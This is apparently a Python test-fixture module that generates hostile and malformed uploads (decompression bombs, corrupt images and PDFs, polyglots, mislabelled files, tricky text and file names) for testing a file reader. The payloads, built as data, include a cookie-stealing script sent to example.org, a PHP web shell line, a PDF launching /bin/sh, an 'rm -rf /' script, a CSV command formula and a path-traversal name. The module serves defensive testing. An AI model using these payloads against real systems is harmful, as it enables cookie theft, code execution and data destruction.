"""A hundred files and more that somebody might upload to break a reader, or the person who opens the copy."""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

from tests.core.files_by_hand import (
    FONT,
    TEXT,
    chunk,
    jpeg_with,
    pdf,
    picture,
    png_header,
    png_with,
    segment,
    squeezed,
    stream,
    written_pdf,
)


class Hostile(NamedTuple):
    """What it is, its bytes, and what it is called by whoever sends it."""

    what: str
    content: bytes
    name: str = ""
    declared: str = ""


ZEROS = zlib.compress(b"\0" * 200_000_000, 9)
SCRIPT = b"<script>fetch('https://example.org/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'>%s</svg>" % SCRIPT
HTML = b"<!doctype html><html><body>%s</body></html>" % SCRIPT
ELF = b"\x7fELF\2\1\1" + b"\0" * 200


def every_one() -> list[Hostile]:
    """All of them."""
    kinds = (pictures, bombs_in_pictures, bombs_in_pdfs, knots_in_pdfs, polyglots, other_kinds, texts, names)
    return [*cut_short(), *scrambled(), *(file for kind in kinds for file in kind())]


def whole() -> dict[str, bytes]:
    """One file of each kind with nothing wrong."""
    return {
        "JPEG": picture("JPEG", (200, 150)),
        "PNG": picture("PNG", (200, 150)),
        "WebP": picture("WEBP", (200, 150)),
        "PDF": pdf(drawn=TEXT % b"hello"),
    }


def cut_short() -> Iterator[Hostile]:
    """The end is missing."""
    for kind, content in whole().items():
        for part in (3, 10, 40, 80, 97):
            yield Hostile(f"{part} % of a {kind}", content[: max(12, len(content) * part // 100)])


def scrambled() -> Iterator[Hostile]:
    """Some bytes behind the first are others, always the same."""
    chance = random.Random(20260101)  # noqa: S311 - the same files in every run
    for kind, content in whole().items():
        for turn in range(4):
            bytes_ = bytearray(content)
            for _ in range(2 + 6 * turn):
                bytes_[chance.randrange(12, len(bytes_))] = chance.randrange(256)
            yield Hostile(f"scrambled {kind} {turn}", bytes(bytes_))
    for kind, begins in (("JPEG", b"\xff\xd8\xff"), ("PNG", b"\x89PNG\r\n\x1a\n"), ("PDF", b"%PDF-1.7\n")):
        yield Hostile(f"noise that begins like a {kind}", begins + chance.randbytes(5_000))


def pictures() -> Iterator[Hostile]:
    """Pictures that lie about themselves."""
    jpeg, frame = picture("JPEG"), Image.new("RGB", (9, 9))
    size = jpeg.index(b"\xff\xc0") + 5
    yield Hostile("JPEG of 65,500 pixels a side", jpeg[:size] + b"\xff\xdc\xff\xdc" + jpeg[size + 4 :])
    yield Hostile("JPEG of no pixel", jpeg[:size] + b"\0\0\0\0" + jpeg[size + 4 :])
    yield Hostile("JPEG whose segment is longer than the file", jpeg[:2] + b"\xff\xe1\xff\xff" + jpeg[2:])
    yield Hostile("JPEG with a broken EXIF", jpeg_with(segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff")))
    yield Hostile("JPEG with a loop in its EXIF", jpeg_with(segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08" * 9)))
    yield Hostile("JPEG with 2,000 comments", jpeg_with(*[segment(0xFE, b"x" * 9_000)] * 2_000))
    yield Hostile("JPEG behind a JPEG", jpeg + jpeg)
    yield Hostile("PNG with a wrong checksum", picture("PNG").replace(b"IHDR\0\0\0\x28", b"IHDR\0\0\0\x29"))
    yield Hostile("PNG without pixels", png_header(9, 9) + chunk(b"IEND", b""))
    yield Hostile("PNG with two headers", png_with(png_header(500, 500)[8:]))
    yield Hostile("PNG with a chunk of 2 GB", png_header(9, 9) + struct.pack(">I", 2**31 - 1) + b"IDAT")
    for fmt in ("PNG", "WEBP"):
        moving = io.BytesIO()
        frame.save(moving, format=fmt, save_all=True, append_images=[Image.new("RGB", (9, 9), "red")])
        yield Hostile(f"{fmt} that moves", moving.getvalue())


def bombs_in_pictures() -> Iterator[Hostile]:
    """Small files that want much memory."""
    for width, height in ((60_000, 60_000), (2**31 - 1, 2**31 - 1), (39_000_000, 1), (0, 0)):
        content = png_header(width, height) + chunk(b"IDAT", ZEROS) + chunk(b"IEND", b"")
        yield Hostile(f"PNG of {width} by {height}", content)
    within = png_header(6_300, 6_300) + chunk(b"IDAT", ZEROS) + chunk(b"IEND", b"")
    yield Hostile("PNG of as many pixels as are allowed", within)
    for name, before in ((b"zTXt", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0"), (b"iCCP", b"a\0\0")):
        yield Hostile(f"PNG with 200 MB in {name.decode()}", png_with(chunk(name, before + ZEROS)))
    webp = bytearray(picture("WEBP", lossless=True))
    webp[21:25] = b"\xff\xff\xff\x0f"
    yield Hostile("WebP of 16,384 pixels a side", bytes(webp))
    yield Hostile("21 MB", b"\xff\xd8\xff" + b"\0" * 21_000_000)


def bombs_in_pdfs() -> Iterator[Hostile]:
    """PDFs that want much memory or much time."""
    for name, box in (
        ("huge", b"0 0 1e9 1e9"),
        ("long", b"0 0 14401 1"),
        ("flat", b"0 0 10 0"),
        ("odd", b"a b"),
    ):
        yield Hostile(f"PDF with a {name} page", pdf().replace(b"0 0 200 100", box))
    yield Hostile(
        "PDF with 200 MB to draw", pdf(page=b"").replace(stream(b""), stream(ZEROS, b"/Filter /FlateDecode"))
    )
    yield Hostile(
        "PDF squeezed twice", pdf(squeezed(ZEROS), page=FONT).replace(b"/Contents 4", b"/Contents 5")
    )
    image = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8"
    shown = b"/Resources << /XObject << /P 5 0 R >> >>"
    for side in (8_000, 60_000, 2_000_000_000):
        held = stream(ZEROS, image % (side, side) + b" /Filter /FlateDecode")
        yield Hostile(
            f"PDF with a picture of {side}", pdf(held, page=shown, drawn=b"200 0 0 100 0 0 cm /P Do")
        )
    for code in (b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode", b"LZWDecode"):
        held = stream(b"\0\1\2\3" * 500, image % (9_000, 9_000) + b" /Filter /" + code)
        yield Hostile(
            f"PDF with a broken {code.decode()}", pdf(held, page=shown, drawn=b"99 0 0 99 0 0 cm /P Do")
        )
    yield Hostile("PDF of 5,000 pages", pdf(kids=b"/Kids [%s] /Count 5000" % (b"3 0 R " * 5_000)))
    yield Hostile("PDF that says 2 billion pages", pdf(kids=b"/Kids [3 0 R] /Count 2000000000"))
    yield Hostile("PDF that draws 10^9 times", _drawn_again_and_again(9))
    yield Hostile("PDF with 200,000 lines", pdf(drawn=b"0 0 m 200 100 l S " * 200_000))


def _drawn_again_and_again(deep: int) -> bytes:
    """Each drawing draws the next ten times, the way entities do in a well-known XML bomb."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 100] /Resources << /XObject << /P %d 0 R >> >>"
    forms = [stream(b"/P Do " * 10, form % (6 + level)) for level in range(deep)]
    last = stream(b"0 0 m 200 100 l S", b"/Type /XObject /Subtype /Form /BBox [0 0 200 100]")
    return pdf(*forms, last, page=b"/Resources << /XObject << /P 5 0 R >> >>", drawn=b"/P Do")


def knots_in_pdfs() -> Iterator[Hostile]:
    """PDFs whose parts refer to each other in ways that make no sense, or that want to do something."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    yield Hostile("PDF whose pages hold themselves", pdf(kids=b"/Kids [2 0 R] /Count 5"))
    yield Hostile("PDF whose page is the catalogue", pdf(kids=b"/Kids [1 0 R] /Count 1"))
    yield Hostile("PDF whose pages are absent", pdf(kids=b"/Kids [77 0 R 78 0 R] /Count 2"))
    yield Hostile("PDF without a page", pdf(kids=b"/Kids [] /Count 0"))
    yield Hostile("PDF without a catalogue", pdf().replace(b"/Root 1 0 R", b"/Root 9 0 R"))
    yield Hostile("PDF that goes on where it begins", pdf(trailer=b"/Prev 9"))
    looped = pdf()
    again = b"/Prev %d" % looped.index(b"xref\n0")
    yield Hostile("PDF whose table is its own earlier one", pdf(trailer=again))
    yield Hostile("PDF of 100,000 brackets", written_pdf([catalog, b"[" * 100_000 + b"]" * 100_000]))
    yield Hostile("PDF of 100,000 dictionaries", written_pdf([catalog, b"<</a" * 100_000 + b">>" * 100_000]))
    yield Hostile(
        "PDF that draws itself", pdf(page=b"/Resources << /XObject << /P 4 0 R >> >>", drawn=b"/P Do")
    )
    yield Hostile(
        "PDF with a locked door", pdf(b"<< /Filter /Standard /V 1 /R 2 >>", trailer=b"/Encrypt 5 0 R")
    )
    yield Hostile("PDF with a script", pdf(catalog=b"/OpenAction << /S /JavaScript /JS (while(1){}) >>"))
    yield Hostile("PDF that starts a program", pdf(catalog=b"/OpenAction << /S /Launch /F (/bin/sh) >>"))
    yield Hostile("PDF with a form in XML", pdf(stream(b"<x/>"), catalog=b"/AcroForm << /XFA 5 0 R >>"))
    yield Hostile(
        "PDF that reads another file", pdf().replace(b"<<  /Length 0", b"<< /F (/etc/passwd) /Length 0")
    )
    yield Hostile(
        "PDF with a length that is a lie", pdf(drawn=b"q Q").replace(b"/Length 3", b"/Length 999999999")
    )


def polyglots() -> Iterator[Hostile]:
    """Files that are two things at once."""
    archive = _zip()
    for kind, content in whole().items():
        yield Hostile(f"{kind} and ZIP", content + archive)
        yield Hostile(f"{kind} and web page", content + HTML)
    yield Hostile("GIF and PDF", b"GIF89a/*" + pdf())
    yield Hostile("GIF and script", b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)")
    yield Hostile("web page and PDF", HTML + pdf())
    yield Hostile("ZIP and PDF", archive + pdf())
    yield Hostile("ELF and PDF", ELF + pdf())
    yield Hostile("words and PDF", b"hello\n" + pdf())
    yield Hostile("JPEG and PDF", jpeg_with(segment(0xFE, pdf())))
    yield Hostile(
        "JPEG with a program in its comment", jpeg_with(segment(0xFE, b"<?php system($_GET[0]); ?>"))
    )


def other_kinds() -> Iterator[Hostile]:
    """Files of kinds that are not published, some under a name of one that is."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w"):
        pass
    yield Hostile("SVG with a script", SVG, "drawing.svg", "image/svg+xml")
    yield Hostile("SVG called PNG", SVG, "drawing.png", "image/png")
    yield Hostile("SVG behind an XML line", b"<?xml version='1.0'?>" + SVG)
    yield Hostile("web page called JPEG", HTML, "photograph.jpg", "image/jpeg")
    yield Hostile("web page behind a mark", b"\xef\xbb\xbf \n" + HTML.upper(), "page.txt")
    yield Hostile("ELF called PDF", ELF, "report.pdf", "application/pdf")
    yield Hostile("Windows program", b"MZ\x90\0" + b"\0" * 99, "report.exe")
    yield Hostile("shell script", b"#!/bin/sh\nrm -rf /\n", "list.txt")
    yield Hostile("ZIP", _zip(), "report.docx")
    yield Hostile("tar", packed.getvalue(), "files.tar")
    yield Hostile("gzip", gzip.compress(b"\0" * 999), "file.gz")
    yield Hostile("RTF", b"{\\rtf1 hello}", "report.rtf")
    yield Hostile("PostScript", b"%!PS-Adobe\n(%stdin) run", "report.ps")
    yield Hostile("old Office document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    yield Hostile("HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 99, "photograph.jpg")
    yield Hostile("film", b"\0\0\0\x18ftypmp42" + b"\0" * 99)
    yield Hostile("sound", b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 99)
    for fmt in ("GIF", "BMP", "TIFF", "ICO", "PPM"):
        yield Hostile(fmt, picture(fmt))


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("a.txt", "a")
    return packed.getvalue()


def texts() -> Iterator[Hostile]:
    """Bytes that are nearly a text."""
    yield Hostile("nothing", b"")
    yield Hostile("a NUL", b"hello\0world")
    yield Hostile("only NULs", b"\0" * 1_000)
    yield Hostile("half of a surrogate", b"hello \xed\xa0\x80")
    yield Hostile("a letter written too long", b"hello \xc0\xaf")
    yield Hostile("a letter beyond the last", b"hello \xf4\x90\x80\x80")
    yield Hostile("half a letter at the end", "ក".encode()[:2])
    yield Hostile("UTF-16", "hello".encode("utf-16"))
    yield Hostile("Latin-1", "Genève".encode("latin-1"))
    yield Hostile("noise", random.Random(1).randbytes(4_000))  # noqa: S311 - the same in every run
    yield Hostile("commands to a terminal", b"hello \x1b]0;owned\x07")
    yield Hostile("letters taken back", b"guilty\x08\x08\x08\x08\x08\x08innocent")
    yield Hostile("nothing that is seen", "\u200b\u2060\U000e0041 \n".encode())
    yield Hostile("letters turned round", "\u202egnp.exe\u202c".encode())
    yield Hostile("two million letters", b"a" * 2_000_000)
    yield Hostile("20 MB of letters", "ក".encode() * 6_600_000)
    yield Hostile("500,000 accents on one letter", b"a" + "\u0301".encode() * 500_000)
    yield Hostile("a formula", b"=cmd|' /C calc'!A0", "list.csv", "text/csv")


def names() -> Iterator[Hostile]:
    """Good files under names that are not."""
    jpeg = picture("JPEG")
    for name in ("a.jpg.exe", "a.html", "../../etc/passwd\0.svg", "a." + "x" * 9_000, "a.\u202egpj"):
        yield Hostile(f"JPEG called {name[:20]!r}", jpeg, name)
    for declared in ("text/html", "image/svg+xml", "image/jpeg\r\nX: y", "x" * 9_000, "image/png"):
        yield Hostile(f"JPEG sent as {declared[:20]!r}", jpeg, "a.jpg", declared)
